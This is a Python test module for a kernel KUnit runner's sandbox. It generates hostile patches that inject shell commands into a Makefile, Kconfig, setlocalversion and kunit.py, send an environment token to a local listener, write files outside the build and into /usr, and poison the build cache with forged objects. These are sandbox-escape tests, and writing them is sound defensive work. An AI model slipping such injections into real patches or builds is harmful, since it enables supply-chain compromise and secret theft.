# SPDX-License-Identifier: GPL-2.0
"""Hostile patches, for `test`: what a patch from the list could do with
the code a build runs, tried through the runner's own command line.

The probe patch tries, from a Makefile's $(shell), Kconfig's $(shell,),
scripts/setlocalversion (run by every build), the tree's kunit.py and a
UML initcall calling the host's os_open_file(): to write outside the
run's directories (a directory of this test's, the work tree, /usr), to
read a token of the caller's environment and to connect to a listener
on 127.0.0.1. Sandboxed, every try must fail and the suite must pass as
usual; --trusted, the same patch must succeed at them (the checks can
fail). The poison patch plants forged objects in the build directory
and ccache; a harmless patch judged after it must get the verdict it
gets on a clean cache, and the warm build directory must be as it was.
"""

import difflib
import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from slub_kunit.common import REPO

TOKEN_VAR = 'PW_TOKEN'
TOKEN = 'slub-kunit-hostile-token-4711'
RUNNER = os.path.join(REPO, 'tools', 'slub-kunit')
# What the probes name each thing they leave outside.
PROBES = ('makefile', 'kconfig', 'setlocalversion', 'kunit.py')
UML_PROBE = 'uml-initcall'


def shell_probe(what: str, outside: str, tree_marker: str, port: int) -> str:
	"""A sh command line that tries every escape, as what."""
	connect = ('import os,socket;s=socket.create_connection(("127.0.0.1",%d),2);'
		   's.sendall(os.environ.get("%s","").encode())' % (port, TOKEN_VAR))
	return (f'echo "${TOKEN_VAR}" > {outside}/{what} 2>/dev/null; '
		f'touch {tree_marker}-{what} /usr/slub-kunit-{what} 2>/dev/null; '
		f"python3 -c '{connect}' 2>/dev/null; true")


def unified(rel: str, before: str, after: str) -> str:
	lines = difflib.unified_diff(before.splitlines(True), after.splitlines(True),
				     f'a/{rel}', f'b/{rel}')
	return ''.join(lines)


def read(tree: str, rel: str) -> str:
	with open(os.path.join(tree, rel)) as f:
		return f.read()


def probe_patch(tree: str, outside: str, port: int, work: str) -> str:
	"""The probe patch against the pristine tree; work is the tree the
	build will see, where a probe tries to plant a file."""
	marker = os.path.join(work, 'slub-kunit-planted')
	diffs = []
	make = read(tree, 'mm/Makefile')
	diffs.append(unified('mm/Makefile', make, make +
			     'hostile-probe := $(shell ' +
			     shell_probe('makefile', outside, marker, port).replace('$', '$$') + ')\n'))
	kconfig = read(tree, 'mm/Kconfig')
	line = shell_probe('kconfig', outside, marker, port).replace(',', '$(comma)')
	diffs.append(unified('mm/Kconfig', kconfig, kconfig +
			     f'comma := ,\nhostile_probe := $(shell,{line})\n'))
	script = read(tree, 'scripts/setlocalversion')
	first, rest = script.split('\n', 1)
	diffs.append(unified('scripts/setlocalversion', script, first + '\n(' +
			     shell_probe('setlocalversion', outside, marker, port) +
			     ') >/dev/null 2>&1\n' + rest))
	kunit = read(tree, 'tools/testing/kunit/kunit.py')
	at = kunit.index('\nimport ') + 1
	diffs.append(unified('tools/testing/kunit/kunit.py', kunit, kunit[:at] +
			     'import subprocess as _hostile\n_hostile.call([\'sh\', \'-c\', ' +
			     repr(shell_probe('kunit.py', outside, marker, port)) + '])\n' +
			     kunit[at:]))
	uml = read(tree, 'arch/um/kernel/um_arch.c')
	diffs.append(unified('arch/um/kernel/um_arch.c', uml, uml + f'''
static int __init slub_kunit_hostile_probe(void)
{{
	int fd = os_open_file("{outside}/{UML_PROBE}", of_create(of_write(OPENFLAGS())), 0644);

	if (fd >= 0)
		os_close_file(fd);
	return 0;
}}
late_initcall(slub_kunit_hostile_probe);
'''))
	return header('probe every way out of the build') + ''.join(diffs)


def poison_patch(tree: str, marker: str) -> str:
	"""Plants, from mm/Makefile, a forged mm/slab_common.o (another
	object, newer than its source) in the build directory and a file
	named marker in every ccache directory the build can name."""
	make = read(tree, 'mm/Makefile')
	plant = ('cp $(objtree)/mm/mmzone.o $(objtree)/mm/slab_common.o 2>/dev/null; '
		 f'touch $(objtree)/mm/slab_common.o $(objtree)/{marker} '
		 f'$${{CCACHE_DIR}}/{marker} $${{CCACHE_DIR}}/0/{marker} 2>/dev/null; true')
	return header('plant forged objects') + unified(
		'mm/Makefile', make, make + f'hostile-poison := $(shell {plant})\n')


def harmless_patch(tree: str) -> str:
	slub = read(tree, 'mm/slub.c')
	first, rest = slub.split('\n', 1)
	return header('a comment') + unified('mm/slub.c', slub,
					     first + '\n/* a harmless comment */\n' + rest)


def header(what: str) -> str:
	return (f'From: Hostile <hostile@example.org>\nSubject: [PATCH] hostile: {what}\n\n'
		f'slub-kunit test: {what}.\n---\n')


class Listener:
	"""A TCP listener on 127.0.0.1 that counts connections and what they
	sent."""

	def __init__(self) -> None:
		self.sock = socket.socket()
		self.sock.bind(('127.0.0.1', 0))
		self.sock.listen(16)
		self.sock.settimeout(0.2)
		self.port = self.sock.getsockname()[1]
		self.received: List[bytes] = []
		self.stop = threading.Event()
		self.thread = threading.Thread(target=self.loop, daemon=True)
		self.thread.start()

	def loop(self) -> None:
		while not self.stop.is_set():
			try:
				conn, _ = self.sock.accept()
			except OSError:
				continue
			with conn:
				conn.settimeout(2)
				try:
					self.received.append(conn.recv(256))
				except OSError:
					self.received.append(b'')

	def close(self) -> None:
		self.stop.set()
		self.thread.join()
		self.sock.close()


@dataclass
class Escapes:
	"""What the probes managed."""
	outside: List[str] = field(default_factory=list)
	planted: List[str] = field(default_factory=list)
	connections: int = 0
	token_seen: bool = False

	def any(self) -> bool:
		return bool(self.outside or self.planted or self.connections or self.token_seen)

	def describe(self) -> str:
		parts = [f'wrote {", ".join(self.outside)} outside'] if self.outside else []
		parts += [f'planted {", ".join(self.planted)}'] if self.planted else []
		parts += [f'{self.connections} connection(s) to 127.0.0.1'] if self.connections else []
		parts += ['read the caller\'s token'] if self.token_seen else []
		return '; '.join(parts) or 'nothing'


def runner(args: List[str], cache: str, log: str) -> int:
	"""tools/slub-kunit ARGS with a token in its environment, as a bot's
	patchwork recipe puts one there; its output goes to log."""
	env = dict(os.environ, **{TOKEN_VAR: TOKEN, 'SLUB_KUNIT_CACHE': cache})
	with open(log, 'ab') as out:
		return subprocess.run([sys.executable, RUNNER] + args, env=env, stdout=out,
				      stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL).returncode


def escapes(outside: str, tree: str, listener: Listener) -> Escapes:
	found = Escapes(outside=sorted(os.listdir(outside)), connections=len(listener.received),
			token_seen=any(TOKEN.encode() in r for r in listener.received))
	for name in os.listdir(outside):
		with open(os.path.join(outside, name), 'rb') as f:
			found.token_seen |= TOKEN.encode() in f.read()
	found.planted = sorted(n for n in os.listdir(tree) if n.startswith('slub-kunit-planted'))
	found.planted += sorted(f'/usr/{n}' for n in os.listdir('/usr') if n.startswith('slub-kunit-'))
	return found


def digest(path: str) -> str:
	try:
		with open(path, 'rb') as f:
			return hashlib.sha256(f.read()).hexdigest()
	except OSError:
		return 'missing'


def run_probe(kernel: str, arch: str, cache: str, pristine: str, work: str,
	      trusted: bool, log: str) -> Tuple[int, Escapes]:
	"""The probe patch through `run`; the exit code and what escaped."""
	outside = tempfile.mkdtemp(prefix='slub-kunit-outside-')
	listener = Listener()
	try:
		with tempfile.TemporaryDirectory(prefix='slub-kunit-hostile-') as tmp:
			patch = os.path.join(tmp, 'probe.patch')
			with open(patch, 'w') as f:
				f.write(probe_patch(pristine, outside, listener.port, work))
			args = ['run', '--kernel', kernel, '--arch', arch, '--cache', cache,
				'--patch', patch] + (['--trusted'] if trusted else [])
			code = runner(args, cache, log)
		return code, escapes(outside, work, listener)
	finally:
		listener.close()
		shutil.rmtree(outside, ignore_errors=True)
		for top, prefix in (('/usr', 'slub-kunit-'), (work, 'slub-kunit-planted')):
			for name in os.listdir(top):
				if name.startswith(prefix):
					os.unlink(os.path.join(top, name))


def run_poison(kernel: str, cache: str, pristine: str, build_dir: str, ccache: str,
	       log: str) -> Tuple[int, List[str]]:
	"""The poison patch, then a harmless one; the harmless one's exit code
	and what the poison left in the warm build directory and ccache.
	The markers are named for this check alone (an earlier check's, or a
	--trusted experiment's, are not this one's), and whatever the poison
	left is removed again, so that the cache is not left poisoned."""
	watched = os.path.join(build_dir, 'mm', 'slab_common.o')
	before = digest(watched)
	marker = f'slub-kunit-forged-{os.getpid()}-{secrets.token_hex(4)}'
	planted = [os.path.join(build_dir, marker), os.path.join(ccache, marker),
		   os.path.join(ccache, '0', marker)]
	with tempfile.TemporaryDirectory(prefix='slub-kunit-hostile-') as tmp:
		poison, harmless = os.path.join(tmp, 'poison.patch'), os.path.join(tmp, 'harmless.patch')
		with open(poison, 'w') as f:
			f.write(poison_patch(pristine, marker))
		with open(harmless, 'w') as f:
			f.write(harmless_patch(pristine))
		base = ['run', '--kernel', kernel, '--cache', cache]
		runner(base + ['--patch', poison], cache, log)
		left = [path for path in planted if os.path.exists(path)]
		if digest(watched) != before:
			left.append(watched)
		try:
			return runner(base + ['--patch', harmless], cache, log), left
		finally:
			for path in left:
				os.unlink(path)


Row = Tuple[str, str, str, bool]


def check(kernel: str, cache: str, arches: List[str]) -> List[Row]:
	"""The hostile patches through `run`, sandboxed and (as the control
	that shows the probes work) --trusted; one row each."""
	from slub_kunit.common import Stages
	from slub_kunit.kernel import source
	src = source.get_source(kernel, cache, Stages())
	work = os.path.join(cache, 'work', src.key)
	log = os.path.join(cache, 'tmp', 'hostile.log')
	os.makedirs(os.path.dirname(log), exist_ok=True)
	print(f'[slub-kunit] hostile patches on {src.label}; their runs log to {log}', flush=True)
	rows: List[Row] = []
	for arch in arches:
		wanted = set(PROBES) | ({UML_PROBE} if arch == 'um' else set())
		code, got = run_probe(kernel, arch, cache, src.path, work, False, log)
		rows.append((src.label, arch, f'hostile patch, sandboxed: exit {code}; escaped: '
			     f'{got.describe()}', code == 0 and not got.any()))
		code, got = run_probe(kernel, arch, cache, src.path, work, True, log)
		missing = sorted(wanted - set(got.outside))
		rows.append((src.label, arch, f'hostile patch, --trusted (the control): exit {code}; '
			     f'escaped: {got.describe()}' +
			     (f'; MISSING {", ".join(missing)}' if missing else ''),
			     not missing and got.connections > 0 and got.token_seen))
	build_dir = os.path.join(cache, 'build', f'{src.key}-x86_64')
	ccache = os.environ.get('SLUB_KUNIT_CCACHE_DIR') or os.path.join(cache, 'ccache')
	code, left = run_poison(kernel, cache, src.path, build_dir, ccache, log)
	rows.append((src.label, 'x86_64', f'poison, then a harmless patch: exit {code}; left in '
		     f'the warm build and ccache: {", ".join(left) or "nothing"}',
		     code == 0 and not left))
	return rows
